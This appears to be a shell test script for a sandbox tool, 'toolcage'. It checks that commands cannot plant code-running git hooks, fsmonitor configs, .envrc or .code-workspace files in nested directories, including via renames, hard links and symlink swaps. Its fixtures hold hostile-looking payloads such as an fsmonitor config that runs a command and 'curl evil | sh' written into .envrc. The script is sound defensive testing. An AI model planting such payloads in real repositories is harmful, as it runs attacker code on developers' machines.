#!/bin/sh
# protected_patterns.sh — the protected patterns at any depth (a nested
# repository's .git/config and hooks, a bare repository's HEAD in a
# subdirectory, .envrc, *.code-workspace) are held for commands too, not
# only refused to the write tools: an existing match is read-only in the
# jail, and one a command makes (written, renamed in, hard-linked, a
# symbolic link) is moved aside when the call ends, the result saying so.
# Each attack is a command through run_command, a manifest tool or
# toolcage exec, as root and as uid 65534; the checks are made from
# outside, as the owner would: git status in the repositories must run
# nothing of the tool's. A tree deeper than the walk's bound: the result
# says where the walk stopped, and strict walls refuse the call.
# Exit 0 pass, 77 skip (the reason is the last line), 1 fail.
set -u
TC=${TOOLCAGE:?}
PY=$(command -v python3) || { echo "skip: python3 is needed to read --json output"; exit 77; }
command -v git >/dev/null 2>&1 || { echo "skip: git is needed"; exit 77; }
tmp=$(mktemp -d /tmp/tc-patterns.XXXXXX) || exit 1
trap 'rm -rf "$tmp"' EXIT INT TERM
chmod 755 "$tmp"
ws=$tmp/ws E=$tmp/etc
mkdir -p "$ws" "$E/tools"
XDG_CONFIG_HOME=$tmp/xdg HOME=$tmp/home GIT_CONFIG_NOSYSTEM=1
export XDG_CONFIG_HOME HOME GIT_CONFIG_NOSYSTEM
mkdir -p "$HOME"
git config --global safe.directory '*'
"$TC" exec --workspace "$ws" -- /bin/true >/dev/null 2>&1
[ $? -ne 125 ] || { echo "skip: the sandbox cannot be set up here"; exit 77; }
fails=0
ok() { echo "ok   $*"; }
bad() { echo "FAIL $*"; sed 's/^/     /' "$tmp/out" "$tmp/err" 2>/dev/null | head -c 1500; echo; fails=$((fails + 1)); }
marker=$tmp/FSMONITOR_RAN
EVIL="[core]
	repositoryformatversion = 0
	bare = false
	fsmonitor = \"touch $marker; false\"
"
printf '{"policy": {"levels": {"destructive": "allow"}}}\n' > "$E/c.json"
printf '{"policy": {"levels": {"destructive": "allow"}}, "sandbox": {"strict": true}}\n' > "$E/strict.json"
cat > "$E/tools/shx.json" <<'JSON'
{"name": "shx", "description": "Runs a shell text in the workspace; used to test protected patterns.",
 "parameters": {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]},
 "risk": "write", "command": ["/bin/sh", "-c", "{{text}}"]}
JSON
AS=""
field() { # key of the --json result (or of its canonical with c.KEY)
	"$PY" -c '
import json,sys
d=json.load(open(sys.argv[1]))
k=sys.argv[2]
if k.startswith("c."): d=d.get("canonical") or {}; k=k[2:]
v=d.get(k)
print(v if isinstance(v,str) else json.dumps(v))' "$1" "$2" 2>/dev/null
}
run() { # VIA TEXT [CONFIG]: the shell text through run_command, the manifest or exec
	cfg=${3:-$E/c.json}
	case $1 in
	run_command) (cd "$ws" && timeout 60 $AS "$TC" call --json --config "$cfg" run_command \
		"$("$PY" -c 'import json,sys; print(json.dumps({"argv": ["sh", "-c", sys.argv[1]]}))' "$2")") ;;
	manifest) (cd "$ws" && timeout 60 $AS "$TC" call --json --config "$cfg" --tools "$E/tools" shx \
		"$("$PY" -c 'import json,sys; print(json.dumps({"text": sys.argv[1]}))' "$2")") ;;
	exec) (cd "$ws" && timeout 60 $AS "$TC" exec --json --profile write -- sh -c "$2") ;;
	esac >"$tmp/out" 2>"$tmp/err"
}
moved() { # the moved-aside report, whichever way the call was made
	{ field "$tmp/out" c.protected_paths_moved; field "$tmp/out" protected_moved; } | grep -v '^null$'
}
owner_git() { # DIR: git status as the owner, outside any jail; 0 when nothing ran
	rm -f "$marker"
	(cd "$1" && git status >/dev/null 2>&1)
	[ ! -e "$marker" ]
}
setup() {
	rm -rf "$ws" && mkdir -p "$ws/vendor/lib" "$ws/deep/a/b/c"
	(cd "$ws" && git init -q && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m 0)
	(cd "$ws/vendor/lib" && git init -q && echo x > f && git add f &&
		git -c user.name=t -c user.email=t@t commit -q -m one)
	echo 'export OWNER=1' > "$ws/deep/a/.envrc"
	# what a tool could write anywhere: a config that runs a command
	printf '%s' "$EVIL" > "$ws/evil.txt"
	[ -z "$AS" ] || chown -R 65534:65534 "$ws"
}

for who in root nobody; do
	if [ $who = nobody ]; then
		[ "$(id -u)" = 0 ] && command -v setpriv >/dev/null || break
		AS="setpriv --reuid 65534 --regid 65534 --clear-groups --"
		chmod 755 "$E" "$E/tools" "$tmp/home"
		chmod 644 "$E"/*.json "$E/tools"/*.json
	fi
	for via in run_command manifest exec; do
		t="$who/$via"
		# 1. hooks in a new nested repository
		setup
		run $via 'mkdir -p deep/x/.git/hooks && echo "touch /tmp/pwned" > deep/x/.git/hooks/pre-commit && chmod +x deep/x/.git/hooks/pre-commit; echo fine > fine.txt'
		[ ! -e "$ws/deep/x/.git/hooks" ] && [ -f "$ws/fine.txt" ] &&
			moved | grep -q 'deep/x/.git/hooks (moved to hooks.toolcage-blocked-' &&
			ok "$t: nested hooks a command made are moved aside, the result says so" ||
			bad "$t: nested hooks"

		# 2. an existing nested repository's config changed in place
		setup
		cp "$ws/vendor/lib/.git/config" "$tmp/config.before"
		run $via "cat evil.txt >> vendor/lib/.git/config; git -C vendor/lib config core.fsmonitor 'touch $marker'; : > vendor/lib/.git/hooks/pre-commit"
		cmp -s "$ws/vendor/lib/.git/config" "$tmp/config.before" && [ ! -e "$ws/vendor/lib/.git/hooks/pre-commit" ] &&
			owner_git "$ws/vendor/lib" &&
			ok "$t: an existing nested .git/config and hooks are read-only" ||
			bad "$t: nested .git/config changed in place"

		# 3. a bare repository's layout built in a subdirectory
		setup
		run $via "mkdir -p sub/objects sub/refs/heads && echo 'ref: refs/heads/main' > sub/HEAD && cp evil.txt sub/config"
		[ ! -e "$ws/sub/HEAD" ] && owner_git "$ws/sub" &&
			moved | grep -q 'sub/HEAD (moved to HEAD.toolcage-blocked-' &&
			ok "$t: a bare repository built in sub/: its HEAD moved aside, git status there runs nothing" ||
			bad "$t: bare repository in sub/ ($(ls "$ws/sub" | tr '\n' ' '))"

		# 4. .envrc and a .code-workspace at depth; the owner's .envrc kept
		setup
		run $via 'echo "curl evil | sh" > deep/a/b/c/.envrc; echo "{\"tasks\": {}}" > deep/a/b/x.code-workspace; echo evil >> deep/a/.envrc'
		[ ! -e "$ws/deep/a/b/c/.envrc" ] && [ ! -e "$ws/deep/a/b/x.code-workspace" ] &&
			[ "$(cat "$ws/deep/a/.envrc")" = 'export OWNER=1' ] &&
			moved | grep -q 'deep/a/b/c/.envrc (moved' && moved | grep -q 'x.code-workspace (moved' &&
			ok "$t: a deep .envrc and .code-workspace moved aside, the owner's .envrc intact" ||
			bad "$t: .envrc / .code-workspace at depth"
		[ $via = run_command ] || continue

		# 5. a tree prepared under other names by one call, renamed into
		# place by the next (the files' ctimes are older than the call)
		setup
		run $via "mkdir -p prep/git/hooks prep/git/objects prep/git/refs && echo 'ref: refs/heads/main' > prep/git/HEAD.txt && cp evil.txt prep/git/config"
		run $via 'mv vendor/lib/.git vendor/lib/old-git && mv prep/git vendor/lib/.git && mv vendor/lib/.git/HEAD.txt vendor/lib/.git/HEAD'
		owner_git "$ws/vendor/lib" && [ ! -e "$ws/vendor/lib/.git/config" ] &&
			moved | grep -q 'vendor/lib/.git/config (moved' &&
			ok "$t: a prepared .git renamed into place: its config moved aside, git status runs nothing" ||
			bad "$t: renamed-in .git ($(ls -a "$ws/vendor/lib" "$ws/vendor/lib/.git" 2>&1 | tr '\n' ' '))"

		# 6. a hard link and a symbolic link made to a prepared file
		setup
		run $via 'echo "curl evil | sh" > prepared'
		run $via 'ln prepared deep/a/b/.envrc; ln -s ../../../prepared deep/a/b/c/.envrc'
		[ ! -e "$ws/deep/a/b/.envrc" ] && [ ! -L "$ws/deep/a/b/c/.envrc" ] && [ -f "$ws/prepared" ] &&
			moved | grep -q 'deep/a/b/.envrc (moved' && moved | grep -q 'deep/a/b/c/.envrc (moved' &&
			ok "$t: a hard link and a symbolic link named .envrc: moved aside, the target kept" ||
			bad "$t: hard link / symlink .envrc"

		# 7. a directory on the way swapped for a symbolic link to a
		# repository prepared under another name
		setup
		run $via "mkdir -p prep/repo/dotgit/objects prep/repo/dotgit/refs && echo 'ref: refs/heads/main' > prep/repo/dotgit/HEAD && cp evil.txt prep/repo/dotgit/config"
		run $via 'mv prep/repo/dotgit prep/repo/.git && mv vendor/lib vendor/lib.old && ln -s ../prep/repo vendor/lib'
		owner_git "$ws/vendor/lib" && owner_git "$ws/prep/repo" &&
			ok "$t: a symbolic link swapped in for a nested repository: git status there runs nothing" ||
			bad "$t: symlink swap"

		# 8. git still works in the jail: a commit in the workspace's
		# repository and in the nested one (HEAD, logs/HEAD, refs written)
		setup
		run $via 'echo y > g && git add g && git -c user.name=t -c user.email=t@t commit -q -m two && cd vendor/lib && git checkout -q -b side && echo z > f && git -c user.name=t -c user.email=t@t commit -q -am three && echo committed'
		[ "$(field "$tmp/out" status)" = ok ] && [ "$(git -C "$ws/vendor/lib" log --format=%s -1 side)" = three ] &&
			[ "$(git -C "$ws" log --format=%s -1)" = two ] &&
			ok "$t: git commit and checkout work in the jail, in the repository and a nested one" ||
			bad "$t: git in the jail"
	done
done
AS=""

# 9. a tree deeper than the walk's bound: said in the result; strict walls
# refuse the call
setup
d=deep
for _ in $(seq 70); do d=$d/d; done
mkdir -p "$ws/$d"
run run_command "echo x > $d/.envrc"
inc=$(field "$tmp/out" c.protected_paths_incomplete)
echo "$inc" | grep -q 'deeper than the bound' && field "$tmp/out" render | grep -q 'not all looked for' &&
	ok "a tree past the walk's depth: the result and the render say where the walk stopped" ||
	bad "deep tree: incomplete '$inc'"
run exec "true"
field "$tmp/out" protected_incomplete | grep -q 'deeper than the bound' &&
	ok "exec --json: protected_incomplete says where" || bad "exec deep tree"
run run_command "echo x > deep/a/.envrc2" "$E/strict.json"
[ "$(field "$tmp/out" status)" != ok ] && grep -q 'not all looked for' "$tmp/out" && [ ! -e "$ws/deep/a/.envrc2" ] &&
	ok "strict walls: a call whose walk met its bound is refused" || bad "strict deep tree"

# 10. more entries than protected_paths.walk_entries: said, with the bound
printf '{"policy": {"levels": {"destructive": "allow"}}, "protected_paths": {"walk_entries": 100}}\n' > "$E/small.json"
setup
mkdir -p "$ws/many" && (cd "$ws/many" && for i in $(seq 150); do : > "f$i"; done)
run run_command "true" "$E/small.json"
field "$tmp/out" c.protected_paths_incomplete | grep -q 'the bound on entries (100) was met in' &&
	[ "$(field "$tmp/out" status)" = ok ] &&
	ok "more entries than walk_entries: the call runs, its result says where the walk stopped" ||
	bad "walk_entries bound"

# 11. the owner's own change just before a call is not the call's: its
# ctime falls in the coarse clock's tick (4-10 ms) the call starts in as
# often as not, and the owner's .git/config was moved aside
setup
n=0
for i in $(seq 20); do
	git -C "$ws" config owner.step "$i"
	: > "$ws/deep/a/.envrc"
	run exec "true"
	if [ -n "$(moved)" ] || [ ! -f "$ws/.git/config" ] || [ ! -f "$ws/deep/a/.envrc" ]; then
		n=$((n + 1))
		mv "$ws/.git/config.toolcage-blocked-"* "$ws/.git/config" 2>/dev/null
		mv "$ws/deep/a/.envrc.toolcage-blocked-"* "$ws/deep/a/.envrc" 2>/dev/null
	fi
done
[ $n -eq 0 ] && [ "$(git -C "$ws" config owner.step)" = 20 ] &&
	ok "the owner's git config and .envrc written just before 20 calls: none moved aside" ||
	bad "the owner's change just before a call moved aside in $n of 20 calls"

[ $fails -eq 0 ] || { echo "$fails failures"; exit 1; }
echo "protected patterns held for commands"
